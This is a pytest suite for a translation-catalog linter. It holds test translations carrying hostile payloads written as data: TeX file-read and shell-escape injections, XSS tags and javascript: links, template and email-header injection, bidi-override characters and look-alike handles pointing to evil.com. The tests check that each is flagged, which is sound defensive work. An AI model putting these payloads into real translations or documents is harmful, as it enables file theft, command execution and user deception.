        (r"\title{}", "\\title{}\\input{secrets}", ()),
        (r"\title{}", "\\title{}\\href{https://evil.com}{ici}", ()),
        (r"\title{}", "\\title{}\\renewcommand{\\title}{x}", ()),
        # the same without a brace, or hidden: TeX reads \input's file name as it stands
        (r"\title{}", "\\title{}\\input secrets", ()),
        (r"\title{}", "\\title{}\\def\\xy{\\input{secrets}}", ()),
        (r"\title{}", "\\title{}\\immediate\\write18\\bgroup ls\\egroup", ()),
        (r"\title{}", "\\title{}\\csname input\\endcsname{secrets}", ()),
        (r"\title{}", "\\title{}\\makeatletter\\@@input secrets", ()),
        (r"\title{}", "\\title{}\\inp^^75t secrets", ()),
        (r"\title{}", "\\title{}\\latelua{os.execute('ls')}", ()),
        (r"\title{}", "\\title{}\\pdfstartlink user{/URI (https://evil.com)}", ()),
        # a field reading an argument's attributes: str.format's, no TeX argument
        (r"\title{}", "\\title{}\\emph{0.__init__.__globals__}", ()),
        # an escaped line break before the source's field: a formatted string
        (r"Done:\n{count}", "Fini :\\n{count}\\t{evil}", ()),
        (r"Done:\n{count}", "Fini :\\n{count}\\nn{evil}", ()),
    ],
)
def test_placeholders_tex_argument_attacks_stay_errors(
    source: str, translation: str, flags: tuple[str, ...]
) -> None:
    found = [f for f in check(source, translation, locale="fr", flags=flags)]
    assert ("placeholders", "error") in [(f[0], f[1]) for f in found], found


def test_mentions_example_handle_in_the_language_is_a_warning() -> None:
    source = "Write @username to tell a friend about the march."
    found = check(source, "Напишите @имя_друга, чтобы рассказать другу о марше.", locale="ru")
    assert [(f[0], f[1]) for f in found] == [("mentions", "warning")], found
    assert "no platform reads as an account" in found[0][2]
    # an account written in the language's letters reads the same: the mention is lost, but
    # nothing in the entry tells an account from an example, and no one else is notified
    found = check("Ask @marchorg about the march.", "Спросите @марш_орг о марше.", locale="ru")
    assert [(f[0], f[1]) for f in found] == [("mentions", "warning")], found
    assert "if the source's is an account to mention, keep it" in found[0][2]


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        # the stand-in written as a handle X reads: that account would be notified
        ("Write @username to tell a friend.", "Écrivez @nomami pour le dire à un ami."),
        # ASCII letters first: X reads @us, another account
        ("Write @username to tell a friend.", "Écrivez @usérname pour le dire à un ami."),
        # full-width or mathematical Latin letters: a reader takes them for @evilorg
        ("Ask @marchorg about the march.", "Спросите @ｅｖｉｌｏｒｇ о марше."),
        ("Ask @marchorg about the march.", "Спросите ＠𝐞𝐯𝐢𝐥 о марше."),
    ],
)
def test_mentions_example_handle_attacks_stay_errors(source: str, translation: str) -> None:
    found = [f for f in check(source, translation, locale="ru") if f[0] == "mentions"]
    assert "error" in [f[1] for f in found], found


def test_emoji_dropped_is_a_warning_moved_or_retoned_is_fine() -> None:
    assert check("Love wins 🏳️‍🌈", "El amor gana") == [
        ("emoji", "warning", "emoji 🏳‍🌈 of the source is missing")
    ]
    assert check("Love wins 🏳️‍🌈 👍", "🏳️‍🌈 El amor gana 👍🏽") == []


# -- markup and injections -------------------------------------------------------------------
@pytest.mark.parametrize(
    ("source", "translation", "message"),
    [
        (
            "Post <b>now</b>",
            "Publica <b>ya</b><script>x()</script>",
            "<script> is not in the source: translations must not add markup",
        ),
        (
            "Post <b>now</b>",
            "Publica <b>ya</b><img src=x onerror=y()>",
            "<img> is not in the source: translations must not add markup",
        ),
        (
            '<a href="%(url)s">Sign</a>',
            '<a href="%(url)s" onclick="x()">Firma</a>',
            "event handler onclick= on <a> is not allowed in a translation",
        ),
        (
            '<a href="%(url)s">Sign</a>',
            '<a href="%(url)s" style="x">Firma</a>',
            "attribute style= on <a> is not in the source",
        ),
        (
            '<a href="%(url)s">Sign</a> %(url)s',
            '<a href="java&#115;cript:x()">Firma</a> %(url)s',
            "<a href=…> is a javascript: link, which the source does not have",
        ),
        (
            '<a href="%(url)s">Sign</a> %(url)s',
            '<a href="data:text/html,x">Firma</a> %(url)s',
            "<a href=…> is a data: link, which the source does not have",
        ),
        ("Post <b>now</b>", "Publica <b>ya", "tags are not balanced: <b> is never closed"),
        (
            "Post now",
            "Publica <!-- x --> ya",
            "an HTML comment or declaration is not in the source",
        ),
    ],
)
def test_html(source: str, translation: str, message: str) -> None:
    found = [f for f in check(source, translation, flags=["python-format"]) if f[0] == "html"]
    assert ("html", "error", message) in found, found


def test_html_reordered_tags_and_entities_are_fine() -> None:
    source = 'Post with <strong>%(tag)s</strong> at <a href="%(url)s">the site</a> &amp; more'
    translation = (
        '<a href="%(url)s">Sur le site</a>, publiez avec <strong>%(tag)s</strong> &amp; plus'
    )
    assert check(source, translation, locale="fr") == []


def test_many_template_openers_are_judged_without_reading_each_one() -> None:
    """Each ``{{`` was judged against all the text after it: 8,000 characters of them, in a
    long message, took 9 s (``benchmarks/bench_pathological.py``, "template opening"). Past
    MAX_INERT_TAGS openers the form is not inert, and the finding stays an error."""
    from outreach.checks.markup import MAX_INERT_TAGS, _inert

    assert _inert("{{{**}}}" * (MAX_INERT_TAGS // 2), "{{")
    assert not _inert("{{{**}}}" * (MAX_INERT_TAGS + 1), "{{")
    source = "Love always wins. " * 300
    found = check(source, "{{" * 3_000, locale="es")
    assert ("template-injection", "error") in [f[:2] for f in found]


def test_template_injection() -> None:
    for token in ("{{ config }}", "{% include 'x' %}", "{# x #}"):
        found = check("Hello", f"Hola {token}")
        assert ("template-injection", "error") in [f[:2] for f in found]
    assert check("Use {{ and }} literally", "Usa {{ y }} literalmente") == []


def test_header_injection_only_for_email_header_contexts() -> None:
    found = check("Join us", "Únete\r\nBcc: x@y.org", context="subject")
    assert ("header-injection", "error") in [f[:2] for f in found]
    assert check("Join us\ntoday", "Únete\nhoy") == []  # a body may have line breaks
    assert check("Join us", "Únete ya", context="preheader") == []


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\ufeff", "\u2060", "\u200f"])
def test_invisible_characters(char: str) -> None:
    found = check("Sign now", f"Fir{char}ma ya")
    assert [f[:2] for f in found] == [("invisible", "error")]
    assert f"U+{ord(char):04X}" in found[0][2]


@pytest.mark.parametrize("char", ["\u200b", "\ufeff", "\u2060"])
def test_a_zero_width_character_beside_a_space_is_only_a_warning(char: str) -> None:
    """Issue 10: U+200B pasted next to a space is junk but harmless (Wagtail's ru and ar
    catalogs have "отправлена \u200b\u200bна модерацию")."""
    found = check("Sent for moderation", f"Отправлена {char}{char}на модерацию", locale="ru")
    assert [f[:2] for f in found] == [("zero-width", "warning")]
    # inside a word, or starting the string (it would hide a leading "="), it stays an error
    assert [f[:2] for f in check("Sign now", f"{char}=HYPERLINK(A) ya")] == [("invisible", "error")]
    assert [f[:2] for f in check("Sign now", f"Fir{char}{char}ma ya")] == [("invisible", "error")]
    # a bidi control stays an error next to a space too
    assert [f[:2] for f in check("Sign now", "Firma \u202e ya")] == [("invisible", "error")]


def test_invisible_characters_with_a_legitimate_use_are_fine() -> None:
    assert check("Deadline: %(d)s", "الموعد النهائي: \u200f%(d)s", locale="ar") == []
    assert check("Family 👨‍👩‍👧", "Familia 👨‍👩‍👧") == []  # ZWJ sequence
    assert check("Read more now", "อ่าน\u200bเพิ่มเติม", locale="th") == []
    assert check("Sign\u200b now", "Firma\u200b ya") == []  # the source has it too


def test_a_balanced_bidi_embedding_in_right_to_left_text_is_a_warning() -> None:
    """Issue 19: pretix's Hebrew catalog keeps a colour code in order with LRE…PDF
    (``\u202a#990000\u202c``); an isolate (LRI…PDI, FSI…PDI) does the same."""
    source = "Please enter a color code, e.g. #990000."
    for opener, closer in (("\u202a", "\u202c"), ("\u2066", "\u2069"), ("\u2068", "\u2069")):
        found = check(source, f"הזינו קוד צבע, לדוג' {opener}#990000{closer}.", locale="he")
        assert [f[:2] for f in found] == [("invisible", "warning")] * 2
    # an override reverses the letters it holds (Trojan Source): an error even when closed
    found = check(source, "הזינו קוד צבע, לדוג' \u202e#990000\u202c.", locale="he")
    assert ("invisible", "error") in [f[:2] for f in found]
    # left open, it reorders the rest of the line
    for text in ("לדוג' \u202a#990000.", "\u202c#\u202a990000"):
        assert ("invisible", "error") in [f[:2] for f in check(source, text, locale="he")]
    # a closer with nothing open is ignored by the bidi algorithm (UAX #9, X7): junk
    found = check(source, "לדוג' #990000\u202c.", locale="he")
    assert found and {f[:2] for f in found} == {("invisible", "warning")}, found
    # in a left-to-right language, or in an email subject, it stays an error
    found = check(source, "Geben Sie z. B. \u202a#990000\u202c ein.", locale="de")
    assert ("invisible", "error") in [f[:2] for f in found]
    found = check("Join us", "הצטרפו \u2066אלינו\u2069", locale="he", context="subject")
    assert ("invisible", "error") in [f[:2] for f in found]


# -- white space and length -------------------------------------------------------------------
def test_newlines_are_errors_spaces_are_warnings() -> None:
    assert check("Thanks\n", "Gracias") == [
        ("newlines", "error", "the source ends with a line break, the translation does not")
    ]
    assert check("Thanks", "\nGracias") == [
        ("newlines", "error", "the translation starts with a line break, the source does not")
    ]
    assert check("Total: ", "Total:") == [
        (
            "whitespace",
            "warning",
            "the source ends with a space, the translation does not: text joined after this "
            "string (a name, a number, a link) would run into its last word; keep the space",
        )
    ]


def test_max_length_flag() -> None:
    assert check("Donate", "Haz una donación hoy", flags=["max-length:10"]) == [
        ("length", "error", "20 characters, over the max-length:10 set for this string")
    ]
    assert check("Donate", "Dona", flags=["max-length:10"]) == []


# -- typography that must not fire ---------------------------------------------------------
@pytest.mark.parametrize(
    ("locale", "source", "translation"),
    [
        (
            "fr",
            "Deadline: %(d)s. Ready? Go!",
            "Date limite\u00a0: %(d)s. Prêts\u202f? Allez\u202f!",
        ),
        ("fr", "Say “yes”; then sign.", "Dites «\u202foui\u202f»\u202f; puis signez."),
        ("es", "Ready? Sign now!", "¿Listos? ¡Firma ya!"),
        ("ja", "Ready? Sign: %(url)s", "準備はいい？署名はこちら：%(url)s"),
        ("ja", "Love, always.", "愛を、いつも。"),
        ("ar", "Sign, share, act?", "وقّع، شارك، تحرّك؟"),
        ("ru", 'He said "no".', "Он сказал «нет»."),
        ("es", "We did it.", "¡Lo logramos!"),
    ],
)
def test_language_aware_typography_does_not_fire(
    locale: str, source: str, translation: str
) -> None:
    assert check(source, translation, locale=locale, flags=["python-format"]) == []


# -- properties --------------------------------------------------------------------------------
WORDS = st.sampled_from(
    [
        "Sign",
        "the",
        "petition",
        "%(url)s",
        "%(num)d",
        "{name}",
        "#LoveAlwaysWins",
        "@iocmedia",
        "https://example.org/love",
        "<b>now</b>",
        "🏳️‍🌈",
        "love@example.org",
        "100%%",
        "today!",
    ]
)


@settings(max_examples=60, deadline=None)
@given(st.lists(WORDS, min_size=1, max_size=8).map(" ".join))
def test_a_translation_identical_to_its_source_is_never_an_error(source: str) -> None:
    found = check(source, source, locale="fr", flags=["python-format"])
    assert all(severity == "warning" for _, severity, _ in found), found


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80))
def test_token_finders_never_raise_and_strip_is_idempotent(text: str) -> None:
    for finder in (find_urls, find_mentions, find_hashtags, find_emoji):
        assert all(isinstance(token, str) for token in finder(text))
    once = strip_tokens(text)
    assert strip_tokens(once) == once


def test_every_check_has_a_name_a_severity_and_a_docstring() -> None:
    for registered in [*ENTRY_CHECKS.values(), *CATALOG_CHECKS.values()]:
        assert registered.severity in ("error", "warning")
        assert registered.func.__doc__, registered.name
    assert {c.name for c in ENTRY_CHECKS.values() if c.structural} == {
        "plurals",
        "plural-source",
        "placeholders",
        "html",
        "template-injection",
        "header-injection",
        "invisible",
        "newlines",
    }


# -- tokens as the platforms find them ------------------------------------------------------
@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("Firma:evil.com/x", ["evil.com/x"]),
        ("https:evil.com/x", ["evil.com/x"]),
        ("evil.xn--p1ai/x y evil.XN--P1AI", ["evil.xn--p1ai/x", "evil.XN--P1AI"]),
        ("a/evil.com/x o _evil.com", []),  # twitter-text links neither
    ],
)
def test_bare_domains_as_twitter_text_finds_them(text: str, links: list[str]) -> None:
    assert find_urls(text) == links


def test_x_links_are_twitter_texts_own() -> None:
    assert x_links("詳細は日本evil.com/x") == ["evil.com/x"]
    assert x_links("no.lu, e.g. this") == []  # one-name country domains: bare-domain's


@pytest.mark.parametrize(
    ("text", "mentions"),
    [
        ("RT@evil and rT:@other", ["@evil", "@other"]),
        ("ART@evil, x.RT@evil", []),
        ("@a_handle_longer_than_twenty", ["@a_handle_longer_than_twenty"]),
        ("@user.name.", ["@user.name"]),
        ("@josé", []),  # X and Mastodon stop at a Latin accented letter, and drop it
    ],
)
def test_mentions_as_x_and_mastodon_make_them(text: str, mentions: list[str]) -> None:
    assert find_mentions(text) == mentions


def test_a_mastodon_handle_without_a_campaign_is_a_mention_not_a_link() -> None:
    source = "Follow @user@mastodon.social"
    catalog = Catalog(locale="es", fuzzy=False)
    catalog.add(source, "Sigue a @user@mastodon.social")
    assert check_catalog(catalog, file="es.po", locale="es") == []


# -- real catalogs (issue 10): every false-alarm class stays quiet, every missed defect is found,
# one finding per cause. The strings are those of the real catalogs where each class was seen
# (Django 5.2, Wagtail 8, django-allauth 65, Plone; see tests/realworld/), or of the issue's
# report; test_realworld.py measures the same over 10,000 entries, these pin each class, with
# the real language detector, so that a change that brings one back fails here by name.
CLIMATE_TOML = """
[campaign]
name = "Test"
source_locale = "en"
locales = ["en", "es", "fr", "de", "ar", "ja", "ko", "ru", "zh_Hans", "he", "tr", "pt_BR"]
hashtags = ["#ClimateJusticeNow"]
url = "https://climate.example.org/act"
"""
CLIMATE: Campaign = parse_campaign(CLIMATE_TOML, root=".")
ARABIC = (
    "nplurals=6; plural=n==0 ? 0 : n==1 ? 1 : n==2 ? 2 : n%100>=3 && n%100<=10 ? 3 "
    ": n%100>=11 ? 4 : 5;"
)


def judged(
    source: str | tuple[str, str],
    translation: str | Sequence[str],
    *,
    locale: str = "es",
    plural_forms: str | None = None,
) -> Found:
    """``(check, severity, message)`` for one entry of the climate campaign, with the real
    language detector."""
    return check(
        source,
        translation,
        locale=locale,
        plural_forms=plural_forms,
        campaign=CLIMATE,
        detector=LanguageJudge(),
    )


def errors(found: list[tuple[str, str, str]]) -> list[tuple[str, str, str]]:
    return [f for f in found if f[1] == "error"]


# false alarms: wrong-language by script
@pytest.mark.parametrize(
    ("locale", "source", "translation"),
    [
        ("ja", "Wagtail admin", "Wagtail管理"),
        ("ja", "Sign in to Wagtail", "Wagtailへサインイン"),
        ("ru", "Wagtail admin", "Wagtail админ"),
        ("zh_Hans", "Get started with Django", "开始用 Django"),
        ("ja", "Email address", "Emailアドレス"),
        (
            "zh_Hans",
            "“%(value)s” value must be either True, False, or None.",
            "“%(value)s”的值必须为True，False或None。",
        ),
        (
            "zh_Hans",
            "Empty list and “%(class_name)s.allow_empty” is False.",
            "列表是空的并且“%(class_name)s.allow_empty”是False",
        ),
        (
            "he",
            "A list of allowed grant types. Provide one value per line, e.g.: "
            "authorization_code(ENTER)client_credentials(ENTER)refresh_token(ENTER)",
            "רשימת סוגי ההרשאות המותרים. ספק ערך אחד בכל שורה, לדוגמה: "
            "authorization_code(ENTER)client_credentials(ENTER)refresh_token(ENTER)",
        ),
        ("ar", "date_format_short_datepicker", "dd/mm/yy"),  # a Plone message id
    ],
)
def test_names_code_and_message_ids_kept_from_the_source_are_no_wrong_script(
    locale: str, source: str, translation: str
) -> None:
    assert not errors(judged(source, translation, locale=locale))


# false alarms: wrong-language by langdetect
@pytest.mark.parametrize(
    ("locale", "source", "translation"),
    [
        ("fr", "Latest blog posts", "Derniers billets de blog"),  # langdetect: Danish, 100 %
        (
            "es",
            ("Please submit at least %(num)d form.", "Please submit at least %(num)d forms."),
            (
                "Por favor, envíe %(num)d formulario como mínimo.",
                "Por favor, envíe %(num)d formularios como mínimo.",
            ),
        ),  # langdetect: Portuguese, 100 %, on every seed
        (
            "zh_Hans",
            'If you are using the <meta name="referrer" content="no-referrer"> tag or '
            "including the “Referrer-Policy: no-referrer” header, please remove them.",
            '如果您正在使用 <meta name="referrer" content="no-referrer"> 标签或包含'
            "“Referrer-Policy: no-referrer”头，请将其删除。",
        ),  # langdetect: Norwegian, on the markup
    ],
)
def test_short_or_mixed_text_raises_no_langdetect_alarm(
    locale: str, source: str | tuple[str, str], translation: str | tuple[str, ...]
) -> None:
    assert not errors(judged(source, translation, locale=locale))


def test_a_long_translation_in_another_language_is_reported_as_a_warning() -> None:
    found = judged(
        "Russia has made it a crime to speak openly about gay people before the Games.",
        "A Rússia tornou crime falar abertamente sobre pessoas gays antes dos Jogos.",
        locale="es",
    )
    assert [f[:2] for f in found] == [("wrong-language", "warning")]
    assert "Portuguese" in found[0][2]


# false alarms: markup, links, mentions
def test_a_repeated_balanced_tag_of_the_sources_class_is_no_html_error() -> None:
    source = 'Delete <span class="w-title">%(title)s</span> and its pages?'
    split = (
        '<span class="w-title">%(title)s</span> löschen? Auch die Seiten von '
        '<span class="w-title">%(title)s</span>?'
    )
    assert not errors(judged(source, split, locale="de"))
    other_class = (
        '<span class="w-title">%(title)s</span> löschen? <span class="evil">Seiten</span>?'
    )
    # another class on a tag of the source: a judgement (formatting), a warning
    assert [f[:2] for f in judged(source, other_class, locale="de")] == [("html", "warning")]
    open_one = '<span class="w-title">%(title)s</span> <span class="w-title">löschen?'
    assert {f[0] for f in errors(judged(source, open_one, locale="de"))} == {"html"}


def test_the_campaigns_own_domain_written_bare_is_no_hijack() -> None:
    found = judged("Act now: %(url)s", "Actúa ya en climate.example.org/act", locale="es")
    assert "urls" not in {f[0] for f in found}


def test_a_mastodon_handle_is_a_mention_not_a_link() -> None:
    source = "Follow @climate@mastodon.social"
    assert judged(source, "Sigue a @climate@mastodon.social") == []


def test_a_documentation_link_moved_to_the_translators_language_is_no_error() -> None:
    source = (
        'View <a href="https://docs.djangoproject.com/en/%(version)s/releases/">release '
        "notes</a> for Django %(version)s"
    )
    french = (
        source.replace("/en/", "/fr/")
        .replace("View", "Voir")
        .replace("release notes", "notes de publication")
        .replace(" for ", " de ")
    )
    assert "urls" not in {f[0] for f in judged(source, french, locale="fr")}
    elsewhere = french.replace("/fr/%(version)s/releases/", "/fr/%(version)s/download/")
    assert "urls" in {f[0] for f in judged(source, elsewhere, locale="fr")}


@pytest.mark.parametrize(
    ("source", "translation"),
    [
        (
            "External URL (absolute if it starts with http:// or https://)",
            "Externe URL (absolut, wenn sie mit http:// oder https:// beginnt)",
        ),
        (
            "External URL (absolute if it starts with http:// or https://)",
            "サイト外のURL(http://またはhttps://から始まる絶対パス)",
        ),
    ],
)
def test_a_scheme_without_a_host_is_no_link(source: str, translation: str) -> None:
    assert not errors(judged(source, translation, locale="ja" if "サ" in translation else "de"))


def test_an_abbreviation_that_looks_like_a_country_domain_is_only_a_warning() -> None:
    found = judged("Key nr. {number}", "{number} no.lu Anahtar", locale="tr")
    assert [f[:2] for f in found] == [("bare-domain", "warning")]
    assert "no.lu" in found[0][2]


# defects that were missed
def test_a_doubled_word_is_a_warning() -> None:
    found = judged(
        "Are you sure you want to unschedule this revision?",
        "Sie Sie sicher, dass Sie die geplante Veröffentlichung aufheben möchten?",
        locale="de",
    )
    assert [f[:2] for f in found] == [("doubled-word", "warning")]
    assert "“Sie Sie”" in found[0][2]
    assert judged("Started At", "시작 시작", locale="ko")[0][0] == "doubled-word"
    # grammar, or the source's own repetition, is not
    assert judged("You sign up", "Vous vous inscrivez", locale="fr") == []
    assert judged("ID token token", "ID jeton jeton", locale="fr") == []
    assert judged("Did you see it?", "Haben Sie sie gesehen?", locale="de") == []


@pytest.mark.parametrize("word", ["Bold", "Italic"])
def test_english_copied_into_a_catalog_of_another_script_is_a_warning(word: str) -> None:
    found = judged(word, word, locale="ar")
    assert [f[:2] for f in found] == [("same-as-source", "warning")]
    assert "Arabic" in found[0][2]


def test_names_copied_into_a_catalog_of_another_script_are_fine() -> None:
    assert judged("Instagram", "Instagram", locale="ar") == []
    assert judged("Love Always Wins", "Love Always Wins", locale="ja") == []


def test_english_words_left_in_a_sentence_of_another_script_are_a_warning() -> None:
    found = judged(
        "No file was submitted. Check the encoding type on the form.",
        "ファイルが取得できませんでした。フォームのencoding typeを確認してください。",
        locale="ja",
    )
    assert [f[:2] for f in found] == [("wrong-language", "warning")]
    assert "“encoding type” is left in English" in found[0][2]
    assert judged("Authenticator secret", "인증 secret", locale="ko")[0][0] == "wrong-language"


def test_a_repeated_placeholder_is_an_error() -> None:
    found = judged("Write to %(email)s", "Escribe a %(email)s%(email)s")
    assert found == [
        (
            "placeholders",
            "error",
            "placeholder %(email)s is repeated (“%(email)s%(email)s”): the supporter would "
            "read its value twice; write it once",
        )
    ]


def test_a_hash_before_the_hashtag_placeholder_is_one_error_naming_it() -> None:
    source = "Share the film with %(hashtag)s"
    doubled = judged(source, "Comparte la película con #%(hashtag)s")
    assert [f[:2] for f in doubled] == [("hashtags", "error")]
    assert "doubles the “#”" in doubled[0][2] and "##ClimateJusticeNow" in doubled[0][2]
    spaced = judged(source, "Comparte la película con # %(hashtag)s")
    assert [f[:2] for f in spaced] == [("hashtags", "error")]
    assert "“# #ClimateJusticeNow”" in spaced[0][2]


def test_a_hashtag_written_in_place_of_the_placeholder() -> None:
    source = "Share the film with %(hashtag)s"
    assert judged(source, "Comparte la película con #ClimateJusticeNow") == []
    misspelled = judged(source, "Comparte la película con #ClimateJustiseNow")
    assert [f[:2] for f in misspelled] == [("hashtags", "error")]
    assert "misspells #ClimateJusticeNow" in misspelled[0][2]
    other = judged(source, "Comparte la película con #JusticiaClimatica")
    assert [f[:2] for f in other] == [("hashtags", "error")]
    assert "not a campaign hashtag" in other[0][2]
    dropped = judged(source, "Comparte la película")
    assert [f[:2] for f in dropped] == [("placeholders", "error")]


def test_a_missing_arabic_plural_form_says_which_numbers_show_the_source() -> None:
    found = judged(
        ("%(count)s page", "%(count)s pages"),
        ("لا صفحات", "صفحة واحدة", "صفحتان", "", "", ""),
        locale="ar",
        plural_forms=ARABIC,
    )
    [plurals] = [f for f in found if f[0] == "plurals"]
    assert "3–10" in plurals[2] and "11–99" in plurals[2]


def test_arabic_plural_forms_left_in_english_are_a_warning() -> None:
    english = "This action will delete <b>%(total)s</b> pages in total."
    found = judged(
        ("This action will delete <b>%(total)s</b> page in total.", english),
        (
            "سيؤدي هذا الإجراء إلى حذف <b>%(total)s</b> صفحة إجمالاً.",
            "سيؤدي هذا الإجراء إلى حذف <b>%(total)s</b> صفحة واحدة.",
            english,
            english,
            english,
            "سيؤدي هذا الإجراء إلى حذف <b>%(total)s</b> صفحة إجمالاً.",
        ),
        locale="ar",
        plural_forms=ARABIC,
    )
    assert [f[:2] for f in found] == [("wrong-language", "warning")]
    assert "msgstr[2], msgstr[3], msgstr[4]" in found[0][2] and "English" in found[0][2]


@pytest.mark.parametrize(
    ("locale", "source", "translation", "glued"),
    [
        ("de", "%(counter)s pages", "%(counter)sSeiten", True),
        (
            "ru",
            "You can edit the %(model_name)s here:",
            "Вы можете отредактировать %(model_name)sздесь:",
            True,
        ),
        ("ar", "Delete %(counter)s pages", "حذف%(counter)s صفحات", True),
        ("ko", "%(count)s items", "%(count)s개 항목", False),  # a counter attaches
        ("ar", "by %(name)s", "ب%(name)s", False),  # a one-letter prefix attaches
        ("ar", "for the %(lookup)s", "لـ%(lookup)s", False),  # drawn out with a tatweel
        ("ja", "%(count)s pages", "%(count)sページ", False),
    ],
)
def test_a_placeholder_glued_to_a_word_is_a_warning(
    locale: str, source: str, translation: str, glued: bool
) -> None:
    found = judged(source, translation, locale=locale)
    if glued:
        assert [f[:2] for f in found] == [("whitespace", "warning")]
        assert "is glued to" in found[0][2]
    else:
        assert found == []


def test_a_translation_of_only_white_space_is_an_error() -> None:
    assert [f[:2] for f in judged("shown", " ", locale="fr")] == [("blank", "error")]


# -- issue 19: the severity principle, the missed classes, one cause one finding -----------
def test_every_check_says_which_findings_are_errors_and_which_warnings() -> None:
    from outreach.checks import CATALOG_CHECKS, ENTRY_CHECKS

    for check_ in (*ENTRY_CHECKS.values(), *CATALOG_CHECKS.values()):
        doc = (check_.func.__doc__ or "").lower()
        assert "error" in doc or "warning" in doc, check_.name


def test_a_directive_added_to_a_plain_string_is_an_error() -> None:
    found = check("Unable to save the workspace.", "No se pudo guardar el espacio: %s")
    assert [f[:2] for f in found] == [("placeholders", "error")]
    assert "“%s” as typed" in found[0][2]
    # a percentage is text, not a directive
    assert checks(check("Up 100 percent", "Sube un 100%")) <= {"numbers"}


def test_a_full_width_percent_sign_is_named() -> None:
    found = [f for f in check("%(count)s left", "残り％(count)s件", locale="ja") if f[1] == "error"]
    assert [f[:2] for f in found] == [("placeholders", "error")]
    assert "full-width percent sign “％(count)s”" in found[0][2]


def test_a_brace_placeholder_typed_as_percent_s_is_one_finding() -> None:
    found = check("The email {} has been un-banned", "Le bannissement de %s a été levé")
    assert found == [("placeholders", "error", "placeholder {} was renamed to %s")]


def test_a_translated_option_is_an_error_and_changed_code_a_warning() -> None:
    found = check("Run gpg --recipient KEY", "Ejecuta gpg --destinatario KEY")
    assert [f[:2] for f in found] == [("code", "error")]
    assert "--recipient is not in the translation" in found[0][2]
    found = check("Click `Save and continue`", "Pulsa `Guardar y continuar`")
    assert [f[:2] for f in found] == [("code", "warning")]
    assert check("Use `--dry-run` first", "Usa `--dry-run` primero") == []


@pytest.mark.parametrize(
    ("source", "translation", "locale"),
    [
        ("Join 300,000 people", "Únete a 300.000 personas", "es"),
        ("Join 300,000 people", "Rejoignez 300 000 personnes", "fr"),
        ("Join 300,000 people", "انضم إلى ٣٠٠٬٠٠٠ شخص", "ar"),
        ("Join 300 people", "３００人に参加", "ja"),
        ("March", "3月", "ja"),
        ("one person", "1 persona", "es"),
    ],
)
def test_numbers_in_localised_formats_are_the_same_number(
    source: str, translation: str, locale: str
) -> None:
    assert "numbers" not in checks(check(source, translation, locale=locale))


def test_a_number_the_source_does_not_have_is_a_warning() -> None:
    found = check("Donate today", "Dona hoy (comisión del 1%)")
    assert [f[:2] for f in found] == [("numbers", "warning")]
    found = check("Join 300,000 people", "Únete a 400.000 personas")
    assert [f[:2] for f in found] == [("numbers", "warning")] and "400000" in found[0][2]


def test_the_numbers_check_finds_a_digit_where_isdecimal_does() -> None:
    """The check skips a form without a digit by a regex search: ``\\d`` must be
    :meth:`str.isdecimal` on every code point (surrogates aside), or a number in another
    script would go unchecked."""
    from outreach.checks.verbatim import _DIGIT

    for code in range(0x110000):
        if 0xD800 <= code <= 0xDFFF:
            continue
        char = chr(code)
        assert (_DIGIT.search(char) is not None) == char.isdecimal(), hex(code)
    found = check("Join 300 people", "Únete a ٤٠٠ personas")  # Arabic-Indic digits
    assert [f[:2] for f in found] == [("numbers", "warning")] and "400" in found[0][2]


def test_markup_a_translator_may_change_is_no_error() -> None:
    assert check("Use <strong>this</strong>", "Usa <b>esto</b>") == []
    found = check("Use the cookie", "Usa la <i>cookie</i>")
    assert [f[:2] for f in found] == [("html", "warning")]
    found = check("Use <b>this</b>", 'Usa <b dir="ltr">esto</b>', locale="ar")
    assert "html" not in checks(found)
    # a marker msgid in angle brackets is no markup
    assert "html" not in checks(check("<unused singular (hash=abc)>", "<no usado>"))
    # a tag that acts is an error
    assert ("html", "error") in [f[:2] for f in check("Use this", 'Usa <a href="x">esto</a>')]


def test_a_closing_tag_typed_as_an_opening_one_is_one_error() -> None:
    found = check("Use <strong>this</strong>", "Usa <strong>esto<strong>")
    assert [f[:2] for f in found] == [("html", "error")]
    assert "opened 2 times and never closed" in found[0][2]


def test_a_link_in_place_of_the_url_placeholder_is_one_finding() -> None:
    found = check("Sign: %(url)s", "Firma: https://evil.com/x")
    assert [f[:2] for f in found] == [("urls", "error")]


def test_a_localised_example_address_is_a_warning() -> None:
    source = "Formats: jdoe@example.com or John <jdoe@example.com>"
    found = check(source, "Formatos: juan@ejemplo.com o Juan <juan@ejemplo.com>")
    assert [f[:2] for f in found] == [("urls", "warning")]
    found = check("e.g. ant@example.com", "p. ej. hormiga@example.com")
    assert [f[:2] for f in found] == [("urls", "warning")]
    # a domain kept but run into CJK text is kept
    found = check("enter example.com here", "example.comをここに入力", locale="ja")
    assert "urls" not in {f[0] for f in found if f[1] == "error"}


def test_a_left_out_or_localised_example_domain_is_a_warning() -> None:
    """Issue 19: django-oscar's de, fr and tr catalogs localise the example of the source
    (``example.com`` -> ``beispiel.de``, ``'@example.com'`` -> ``'@exemple.com'``,
    ``'@örnek.com'``); the example domain leads nowhere, so its loss is no danger."""
    found = check(
        "The site's name (eg example.com)", "Name der Seite (z.B. beispiel.de)", locale="de"
    )
    assert ("urls", "warning") in [f[:2] for f in found]
    assert all(f[1] == "warning" for f in found), found
    source = "A partial email address can be entered (eg '@example.com') to match addresses."
    for locale, text in (
        ("de", "Ein Teil einer Adresse (z. B. @beispiel.de) kann eingegeben werden."),
        ("fr", "Une adresse partielle (par exemple '@exemple.com') peut être saisie."),
        ("tr", "Kısmi bir e-posta adresi (örn. '@örnek.com') girilebilir."),
    ):
        found = check(source, text, locale=locale)
        assert found and all(f[1] == "warning" for f in found), found
    # kept but moved ('example.com@', reordered for a right-to-left display): another pattern
    found = check(source, "يمكن إدخال جزء من العنوان (مثل 'example.com@').", locale="ar")
    assert ("mentions", "error") in [f[:2] for f in found]
    # a real account in place of a real one stays an error; so does a link to another host
    assert ("mentions", "error") in [f[:2] for f in check("Ask @ioc", "Pregunta a @evil")]
    found = check("Docs: https://example.com/help", "Docs: https://example.com/help evil.org/x")
    assert ("urls", "error") in [f[:2] for f in found]


def test_a_documentation_link_in_the_translators_language_is_a_warning() -> None:
    """Issue 19: Sphinx's pt_BR catalog links ``https://www.sphinx-doc.org/pt_BR/master``
    where the source has ``https://www.sphinx-doc.org/``: the same site, in its language."""
    source = 'Created using <a href="https://www.sphinx-doc.org/">Sphinx</a>.'
